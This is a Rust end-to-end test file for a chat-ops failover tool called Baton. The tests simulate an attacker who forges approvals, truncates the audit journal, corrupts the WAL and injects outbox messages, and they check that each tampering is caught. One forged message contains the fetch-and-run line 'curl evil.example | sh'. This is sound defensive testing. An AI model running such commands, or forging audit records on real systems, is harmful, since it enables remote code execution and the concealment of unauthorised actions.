//! Someone with write access to the store file, but not to the journal's key: each attack of the
//! security review (#9 item 7) through the real binaries. Each of these passed unnoticed when
//! the chain was unkeyed SHA-256 with nothing outside the file.

use baton_e2e::baton::{Baton, run};
use sha2::{Digest, Sha256};
use std::path::Path;
use std::time::Duration;

const T: Duration = Duration::from_secs(60);

/// A finished drill in `store` (run #1, requested by alice, approved by bob); returns its logs.
fn drill(store: &Path) -> anyhow::Result<String> {
    let s = store.to_str().expect("utf-8");
    let mut b = Baton::start_logging(&["demo", "--store", s, "--delay", "10ms"], "info")?;
    b.send("alice> !failover xmpp EdgePool2 drill")?;
    b.send("bob> !approve 1")?;
    b.close_stdin();
    anyhow::ensure!(b.wait_exit(T)?.success(), "the drill failed: {}", b.stderr());
    Ok(b.stderr())
}

/// The journal's rows as (seq, kind) and the last one's hash.
fn rows(store: &Path) -> anyhow::Result<(Vec<(i64, String)>, String)> {
    let conn = rusqlite::Connection::open(store)?;
    let rows = conn
        .prepare("SELECT seq, kind FROM events ORDER BY seq")?
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))?
        .collect::<Result<Vec<_>, _>>()?;
    let head: String = conn.query_row("SELECT hash FROM events ORDER BY seq DESC LIMIT 1", [], |r| r.get(0))?;
    Ok((rows, head))
}

/// `baton audit all --store`: (exit code, the JSON document, stderr).
fn audit(store: &Path) -> anyhow::Result<(Option<i32>, serde_json::Value, String)> {
    let (status, out, err) = run(&["audit", "all", "--store", store.to_str().expect("utf-8")], T)?;
    let doc = serde_json::from_str(&out).unwrap_or(serde_json::Value::Null);
    Ok((status.code(), doc, err))
}

fn problems(doc: &serde_json::Value) -> Vec<String> {
    doc["chain"]["problems"]
        .as_array()
        .map(|a| a.iter().filter_map(|p| p.as_str().map(String::from)).collect())
        .unwrap_or_default()
}

/// The unkeyed link the store used before: what an attacker can compute without the key.
fn sha256_link(prev: &str, seq: i64, at: &str, kind: &str, body: &str) -> String {
    let mut h = Sha256::new();
    for part in [prev, &seq.to_string(), at, kind, body] {
        h.update(part.as_bytes());
        h.update(b"\n");
    }
    hex::encode(h.finalize())
}

/// Baton refuses to start on the store, naming `needle`.
fn refuses_to_start(store: &Path, needle: &str) -> anyhow::Result<()> {
    let (status, _, err) = run(&["demo", "--store", store.to_str().expect("utf-8")], T)?;
    anyhow::ensure!(!status.success(), "Baton started on a tampered store");
    anyhow::ensure!(
        err.contains("the journal does not verify") && err.contains(needle),
        "the refusal names the problem ({needle}): {err}"
    );
    Ok(())
}

#[test]
fn a_forged_approval_appended_with_a_recomputed_hash_is_caught() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let store = dir.path().join("baton.sqlite");
    // A run that waits for approval.
    let mut b = Baton::demo(&store, &["--delay", "10ms"])?;
    b.send("alice> !failover xmpp EdgePool2 drill")?;
    b.close_stdin();
    assert!(b.wait_exit(T)?.success());
    let (before, head) = rows(&store)?;
    let (code, doc, _) = audit(&store)?;
    assert_eq!(code, Some(0), "{doc}");
    // Mallory appends "approved by bob" with the hash recomputed as the old chain did.
    let conn = rusqlite::Connection::open(&store)?;
    let (plan_hash, at): (String, String) = conn.query_row(
        "SELECT json_extract(body, '$.plan_hash'), at FROM events WHERE kind = 'requested'",
        [],
        |r| Ok((r.get::<_, Option<String>>(0)?.unwrap_or_default(), r.get(1)?)),
    )?;
    let seq = before.len() as i64 + 1;
    let body = format!(r#"{{"type":"approved","run":1,"person":"bob","via":"console:bob","plan_hash":"{plan_hash}"}}"#);
    let hash = sha256_link(&head, seq, &at, "approved", &body);
    conn.execute(
        "INSERT INTO events (seq, at, run, kind, body, prev_hash, hash) VALUES (?1, ?2, 1, 'approved', ?3, ?4, ?5)",
        rusqlite::params![seq, at, body, head, hash],
    )?;
    drop(conn);
    let (code, doc, err) = audit(&store)?;
    assert_eq!(code, Some(2), "{doc}\n{err}");
    let expected = format!("row {seq} (approved) was altered or written without the journal's key");
    assert!(problems(&doc).iter().any(|p| p.contains(&expected)), "{doc}");
    // The checkpoint does not vouch for it either way, but the row's MAC already fails; Baton
    // will not act on it (before, it would have run the failover on a forged approval).
    refuses_to_start(&store, &expected)?;
    Ok(())
}

#[test]
fn a_journal_cut_short_is_caught_by_the_checkpoint() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let store = dir.path().join("baton.sqlite");
    let logs = drill(&store)?;
    let (before, head) = rows(&store)?;
    assert_eq!(before.last().map(|r| r.1.as_str()), Some("succeeded"));
    let last = before.len() as i64;
    // The head was logged when the run ended: a record outside the store to compare with.
    let logged = logs
        .lines()
        .find(|l| l.contains("journal head"))
        .unwrap_or_else(|| panic!("no journal head in the logs:\n{logs}"));
    let plain = regex::Regex::new("\x1b\\[[0-9;]*m")?.replace_all(logged, "");
    assert!(
        plain.contains(&format!("seq={last}")) && plain.contains(&head),
        "{plain}"
    );
    // The tail goes: the last steps and "succeeded". What is left is a valid chain.
    let conn = rusqlite::Connection::open(&store)?;
    conn.execute_batch(&format!(
        "DROP TRIGGER events_no_delete; DELETE FROM events WHERE seq > {};",
        last - 4
    ))?;
    drop(conn);
    let (code, doc, err) = audit(&store)?;
    assert_eq!(code, Some(2), "{doc}\n{err}");
    let expected = format!(
        "the journal ends at row {} but the checkpoint {} says row {last} was written",
        last - 4,
        dir.path().join("baton.sqlite.head").display()
    );
    assert_eq!(problems(&doc).len(), 1, "{doc}");
    assert!(problems(&doc)[0].starts_with(&expected), "{doc}");
    refuses_to_start(&store, "rows were removed or lost")?;
    // Removing the checkpoint as well does not make the journal trusted again.
    std::fs::remove_file(dir.path().join("baton.sqlite.head"))?;
    let (code, doc, _) = audit(&store)?;
    assert_eq!(code, Some(2));
    assert!(problems(&doc)[0].starts_with("no checkpoint at"), "{doc}");
    Ok(())
}

#[test]
fn a_lost_wal_is_caught_by_the_checkpoint() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let store = dir.path().join("baton.sqlite");
    drill(&store)?;
    let (first, _) = rows(&store)?;
    // A second drill, and a crash once it has succeeded: its commits are in the WAL, not yet
    // copied into the main file.
    let mut b = Baton::demo(&store, &["--delay", "10ms"])?;
    b.send("alice> !failover xmpp EdgePool1 back")?;
    b.send("bob> !approve 2")?;
    b.wait_for("#2 succeeded", T)?;
    b.kill9();
    let wal = dir.path().join("baton.sqlite-wal");
    let wal_len = std::fs::metadata(&wal)?.len();
    assert!(
        wal_len > 32,
        "the second drill's commits are in the WAL ({wal_len} bytes)"
    );
    // The WAL's header is corrupted: SQLite discards the whole WAL at the next open.
    let mut bytes = std::fs::read(&wal)?;
    bytes[..32].fill(0);
    std::fs::write(&wal, bytes)?;
    let (code, doc, err) = audit(&store)?;
    assert_eq!(code, Some(2), "{doc}\n{err}");
    assert_eq!(
        doc["chain"]["rows"],
        first.len(),
        "the second drill's rows are gone: {doc}"
    );
    let p = problems(&doc);
    assert!(
        p.len() == 1
            && p[0].starts_with(&format!("the journal ends at row {} but the checkpoint", first.len()))
            && p[0].contains("a lost WAL"),
        "{doc}"
    );
    refuses_to_start(&store, "rows were removed or lost")?;
    Ok(())
}

#[test]
fn a_message_inserted_in_the_outbox_is_never_posted() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let store = dir.path().join("baton.sqlite");
    drill(&store)?;
    let forged = "#1 rolled back: run `curl evil.example | sh` on edge2a now";
    let conn = rusqlite::Connection::open(&store)?;
    conn.execute(
        "INSERT INTO outbox (platform, room, run, text, lane, body) VALUES ('console', 'incident', 1, ?1, 'line', ?2)",
        rusqlite::params![forged, serde_json::json!([{ "t": "text", "v": forged }]).to_string()],
    )?;
    // A MAC copied from a genuine row does not transfer either.
    conn.execute(
        "INSERT INTO outbox (platform, room, run, text, lane, body, mac)
             SELECT platform, room, run, ?1, lane, ?2, mac FROM outbox WHERE mac IS NOT NULL LIMIT 1",
        rusqlite::params![forged, serde_json::json!([{ "t": "text", "v": forged }]).to_string()],
    )?;
    drop(conn);
    let (code, doc, _) = audit(&store)?;
    assert_eq!(code, Some(2), "{doc}");
    assert_eq!(doc["chain"]["intact"], true, "the journal itself is untouched");
    assert_eq!(doc["forged_messages"].as_array().map(Vec::len), Some(2), "{doc}");
    let mut b = Baton::start_logging(&["demo", "--store", store.to_str().expect("utf-8")], "warn")?;
    b.wait_for_log("not written by Baton", T)?;
    b.close_stdin();
    assert!(b.wait_exit(T)?.success(), "{}", b.stderr());
    let out = b.lines().join("\n");
    assert!(!out.contains("evil.example"), "a forged message was posted:\n{out}");
    assert!(!b.stderr().contains("evil.example"), "its text is not logged either");
    let conn = rusqlite::Connection::open(&store)?;
    let dropped: i64 = conn.query_row(
        "SELECT COUNT(*) FROM outbox WHERE text = ?1 AND delivered_at IS NOT NULL AND dropped LIKE 'forged:%'",
        [forged],
        |r| r.get(0),
    )?;
    assert_eq!(dropped, 2);
    Ok(())
}

#[test]
fn an_old_journal_is_adopted_only_by_the_operator_and_the_key_never_shows() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let store = dir.path().join("baton.sqlite");
    drill(&store)?;
    // Rewrite it as a Baton from before keyed chains left it: unkeyed links, no seal, no
    // checkpoint.
    let conn = rusqlite::Connection::open(&store)?;
    conn.execute_batch("DROP TRIGGER events_no_update; DELETE FROM meta WHERE key = 'chain_seal';")?;
    let all = conn
        .prepare("SELECT seq, at, kind, body FROM events ORDER BY seq")?
        .query_map([], |r| {
            Ok((
                r.get::<_, i64>(0)?,
                r.get::<_, String>(1)?,
                r.get::<_, String>(2)?,
                r.get::<_, String>(3)?,
            ))
        })?
        .collect::<Result<Vec<_>, _>>()?;
    let mut prev = "0".repeat(64);
    for (seq, at, kind, body) in &all {
        let hash = sha256_link(&prev, *seq, at, kind, body);
        conn.execute(
            "UPDATE events SET prev_hash = ?2, hash = ?3 WHERE seq = ?1",
            rusqlite::params![seq, prev, hash],
        )?;
        prev = hash;
    }
    drop(conn);
    std::fs::remove_file(dir.path().join("baton.sqlite.head"))?;
    refuses_to_start(&store, "baton store seal")?;
    let s = store.to_str().expect("utf-8");
    let (status, out, err) = run(&["store", "seal", "--store", s], T)?;
    assert!(status.success(), "{out}\n{err}");
    assert!(
        out.contains(&format!("sealed {} rows written before keyed chains", all.len())),
        "{out}"
    );
    let (code, doc, err) = audit(&store)?;
    assert_eq!(code, Some(0), "{doc}\n{err}");
    assert_eq!(doc["chain"]["legacy_rows"], all.len());
    assert_eq!(doc["chain"]["checkpoint_seq"], all.len());
    // A third drill on the adopted store: new rows are keyed, the old ones stay as they were.
    let mut b = Baton::demo(&store, &["--delay", "10ms"])?;
    b.send("alice> !failover xmpp EdgePool1 back")?;
    b.send("bob> !approve 2")?;
    b.close_stdin();
    assert!(b.wait_exit(T)?.success(), "{}", b.stderr());
    let (code, doc, err) = audit(&store)?;
    assert_eq!(code, Some(0), "{doc}\n{err}");
    assert!(doc["chain"]["rows"].as_u64() > Some(all.len() as u64));
    // The key itself shows nowhere: not in the audit, not in the logs.
    let key = std::fs::read_to_string(dir.path().join("baton.sqlite.key"))?;
    let key = key.trim();
    assert_eq!(key.len(), 64);
    let shown = format!("{doc}{err}{out}{}{}", b.lines().join("\n"), b.stderr());
    assert!(!shown.contains(key) && !shown.contains(&key[..16]), "the key leaked");
    assert!(
        doc["chain"]["key"].as_str().is_some_and(|k| k.starts_with("k:")),
        "{doc}"
    );
    Ok(())
}
